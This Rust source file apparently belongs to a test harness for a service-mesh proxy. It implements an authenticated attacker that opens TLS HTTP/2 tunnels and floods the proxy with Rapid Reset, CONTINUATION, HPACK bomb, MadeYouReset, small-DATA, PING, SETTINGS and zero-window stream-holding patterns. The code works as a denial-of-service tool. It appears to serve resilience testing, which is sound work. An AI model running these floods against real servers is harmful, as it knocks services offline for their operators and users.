//! The attacker that has a certificate of the mesh: a few tunnels of its own, opened again when they are ended.

use std::cell::RefCell;
use std::io;
use std::rc::Rc;
use std::sync::Arc;
use std::time::Duration;

use rustls::ClientConfig;
use rustls_pki_types::ServerName;
use tokio::io::{AsyncReadExt, AsyncWriteExt, ReadHalf, WriteHalf};
use tokio::net::TcpStream;
use tokio::time::{Instant, MissedTickBehavior, interval, sleep, timeout_at};
use tokio_rustls::TlsConnector;

use super::kinds::Attack;
use super::strike::{Done, Pace, Strike};
use crate::frames::{self as h2, Reader};
use crate::load::wire::Mode;

/// So many at a time, so that each thread of a proxy gets its part.
const TUNNELS: u32 = 4;
/// After one was ended: some eighty handshakes a second at most, over all tunnels.
const AGAIN: Duration = Duration::from_millis(50);
/// Streams that a tunnel holds open where the attack needs open ones.
const HELD: usize = 200;
/// Streams that carry small frames.
const CARRIERS: usize = 8;
/// HTTP/2's windows before anybody has granted more.
const FIRST_WINDOW: i64 = 65_535;

/// Attacks until then.
pub(super) async fn storm(strike: &Strike, tls: Arc<ClientConfig>, until: Instant) -> Done {
    let done = Rc::new(RefCell::new(Done::default()));
    let mut all = tokio::task::JoinSet::new();
    for _ in 0..TUNNELS {
        let (strike, tls, done) = (strike.clone(), tls.clone(), done.clone());
        all.spawn_local(async move {
            let mut pace = Pace::new(f64::from(strike.rate()) / f64::from(TUNNELS));
            while Instant::now() < until {
                let tunnel = open(&strike, tls.clone());
                match timeout_at(until, tunnel).await {
                    Ok(Ok(stream)) => {
                        done.borrow_mut().opened += 1;
                        let mut mind = Mind::new(&strike);
                        let ended = timeout_at(until, converse(stream, &mut mind, &mut pace)).await;
                        let mut done = done.borrow_mut();
                        done.ended += u64::from(ended.is_ok());
                        done.steps += mind.steps;
                    }
                    Ok(Err(_)) => done.borrow_mut().refused += 1,
                    Err(_) => break,
                }
                sleep(AGAIN).await;
            }
        });
    }
    while all.join_next().await.is_some() {}
    done.take()
}

type Stream = tokio_rustls::client::TlsStream<TcpStream>;

async fn open(strike: &Strike, tls: Arc<ClientConfig>) -> io::Result<Stream> {
    let stream = TcpStream::connect(strike.connect).await?;
    stream.set_nodelay(true)?;
    TlsConnector::from(tls).connect(ServerName::from(strike.connect.ip()), stream).await
}

/// Writes what the attack wants at its pace and listens to what is granted, until the other end has had enough.
async fn converse(stream: Stream, mind: &mut Mind, pace: &mut Pace) -> io::Result<()> {
    let (reader, mut writer) = tokio::io::split(stream);
    let mut hello = h2::PREFACE.to_vec();
    mind.greet(&mut hello);
    writer.write_all(&hello).await?;
    let mind = RefCell::new(mind);
    tokio::try_join!(listen(reader, &mind), speak(writer, &mind, pace)).map(|_| ())
}

async fn listen(mut reader: ReadHalf<Stream>, mind: &RefCell<&mut Mind>) -> io::Result<()> {
    let (mut frames, mut buffer) = (Reader::default(), vec![0; 64 * 1024]);
    loop {
        let count = reader.read(&mut buffer).await?;
        if count == 0 {
            return Err(io::ErrorKind::UnexpectedEof.into());
        }
        frames.feed(&buffer[..count]);
        while let Some(frame) = frames.next() {
            mind.borrow_mut().hear(&frame)?;
        }
    }
}

async fn speak(mut writer: WriteHalf<Stream>, mind: &RefCell<&mut Mind>, pace: &mut Pace) -> io::Result<()> {
    let mut tick = interval(Duration::from_millis(1));
    tick.set_missed_tick_behavior(MissedTickBehavior::Skip);
    let mut bytes = Vec::new();
    loop {
        tick.tick().await;
        bytes.clear();
        mind.borrow_mut().speak(pace.due(), &mut bytes);
        writer.write_all(&bytes).await?;
        writer.flush().await?;
    }
}

/// What the attacker knows of one tunnel, and what it says next.
struct Mind {
    attack: Attack,
    authority: String,
    /// Nobody answers.
    sink: bool,
    next: u32,
    steps: u64,
    /// Open streams, and what each may still be sent.
    held: Vec<(u32, i64)>,
    window: i64,
    first_window: i64,
    most: usize,
    /// What is to be said in answer.
    answers: Vec<u8>,
}

impl Mind {
    fn new(strike: &Strike) -> Self {
        Self {
            attack: strike.attack,
            authority: strike.app.to_string(),
            sink: strike.sink,
            next: 1,
            steps: 0,
            held: Vec::new(),
            window: FIRST_WINDOW,
            first_window: FIRST_WINDOW,
            most: if strike.sink { HELD } else { 100 },
            answers: Vec::new(),
        }
    }

    fn greet(&self, out: &mut Vec<u8>) {
        match self.attack {
            // Each stream may be sent whatever there is; that the tunnel may not be told at its end.
            Attack::ZeroWindow => h2::settings(out, &[(h2::INITIAL_WINDOW, (1 << 31) - 1)]),
            _ => h2::settings(out, &[]),
        }
    }

    fn hear(&mut self, frame: &h2::Frame) -> io::Result<()> {
        match frame.kind {
            h2::SETTINGS if frame.flags & h2::ACK == 0 => {
                if let Some(window) = frame.setting(h2::INITIAL_WINDOW) {
                    let more = i64::from(window) - self.first_window;
                    self.first_window = i64::from(window);
                    self.held.iter_mut().for_each(|(_, left)| *left += more);
                }
                self.most = frame.setting(h2::MAX_STREAMS).map_or(HELD, |most| HELD.min(most as usize));
                h2::frame(&mut self.answers, h2::SETTINGS, h2::ACK, 0, &[]);
            }
            h2::PING if frame.flags & h2::ACK == 0 => {
                h2::frame(&mut self.answers, h2::PING, h2::ACK, 0, &frame.payload);
            }
            h2::WINDOW_UPDATE if frame.stream == 0 => self.window += i64::from(frame.number()),
            h2::WINDOW_UPDATE => {
                let stream = self.held.iter_mut().find(|(id, _)| *id == frame.stream);
                if let Some((_, left)) = stream {
                    *left += i64::from(frame.number());
                }
            }
            h2::RST_STREAM => self.held.retain(|(id, _)| *id != frame.stream),
            h2::GOAWAY => return Err(io::ErrorKind::ConnectionAborted.into()),
            _ => {}
        }
        Ok(())
    }

    /// So many steps of the attack.
    fn speak(&mut self, steps: usize, out: &mut Vec<u8>) {
        out.append(&mut self.answers);
        for _ in 0..steps {
            if !self.step(out) {
                return;
            }
            self.steps += 1;
        }
    }

    fn step(&mut self, out: &mut Vec<u8>) -> bool {
        match self.attack {
            Attack::RapidReset => {
                let id = self.ask(out, 0);
                h2::frame(out, h2::RST_STREAM, 0, id, &8u32.to_be_bytes());
            }
            Attack::Continuation => self.go_on(out),
            Attack::HpackBomb => self.bomb(out),
            Attack::MadeYouReset => self.provoke(out),
            Attack::SmallData => return self.carry(out, &[0]),
            Attack::EmptyData => return self.carry(out, &[]),
            Attack::Ping => h2::frame(out, h2::PING, 0, 0, &[0; 8]),
            Attack::Settings => h2::settings(out, &[]),
            _ => return self.hold(out),
        }
        true
    }

    /// Opens a stream to the application.
    fn ask(&mut self, out: &mut Vec<u8>, flags: u8) -> u32 {
        let id = self.next;
        self.next += 2;
        h2::frame(out, h2::HEADERS, h2::END_HEADERS | flags, id, &h2::connect(&self.authority));
        id
    }

    /// The same header block, once more not ended.
    fn go_on(&mut self, out: &mut Vec<u8>) {
        // `a: b`, never indexed.
        let fields = [0x10, 1, b'a', 1, b'b'].repeat(200);
        if self.next == 1 {
            h2::frame(out, h2::HEADERS, 0, 1, &h2::connect(&self.authority));
            self.next += 2;
        }
        h2::frame(out, h2::CONTINUATION, 0, 1, &fields);
    }

    fn bomb(&mut self, out: &mut Vec<u8>) {
        let mut block = h2::connect(&self.authority);
        if self.next == 1 {
            block.extend(h2::remembered());
        }
        block.extend(h2::recalled(4_000));
        h2::frame(out, h2::HEADERS, h2::END_HEADERS | h2::END_STREAM, self.next, &block);
        self.next += 2;
    }

    /// A stream that the server has to reset by itself.
    fn provoke(&mut self, out: &mut Vec<u8>) {
        match self.steps % 3 {
            0 => {
                let id = self.ask(out, 0);
                h2::frame(out, h2::WINDOW_UPDATE, 0, id, &0u32.to_be_bytes());
            }
            1 => {
                let id = self.ask(out, 0);
                h2::frame(out, h2::WINDOW_UPDATE, 0, id, &(u32::MAX >> 1).to_be_bytes());
            }
            _ => {
                let id = self.ask(out, h2::END_STREAM);
                h2::frame(out, h2::DATA, 0, id, &[]);
            }
        }
    }

    /// A frame on one of a few streams that swallow everything, as far as it was granted.
    fn carry(&mut self, out: &mut Vec<u8>, payload: &[u8]) -> bool {
        if self.held.len() < CARRIERS {
            self.begin(out, Mode::Sink);
        }
        let at = self.steps as usize % self.held.len();
        let (id, left) = &mut self.held[at];
        let size = payload.len() as i64;
        if !self.sink && size > 0 && (*left < size || self.window < size) {
            return false;
        }
        *left -= size;
        self.window -= size;
        h2::frame(out, h2::DATA, 0, *id, payload);
        true
    }

    /// One stream more whose application sends all it can.
    fn hold(&mut self, out: &mut Vec<u8>) -> bool {
        let more = self.held.len() < self.most;
        if more {
            self.begin(out, Mode::Source);
        }
        more
    }

    fn begin(&mut self, out: &mut Vec<u8>, mode: Mode) {
        let id = self.ask(out, 0);
        let head = mode.encode();
        h2::frame(out, h2::DATA, 0, id, &head);
        self.window -= head.len() as i64;
        self.held.push((id, self.first_window - head.len() as i64));
    }
}
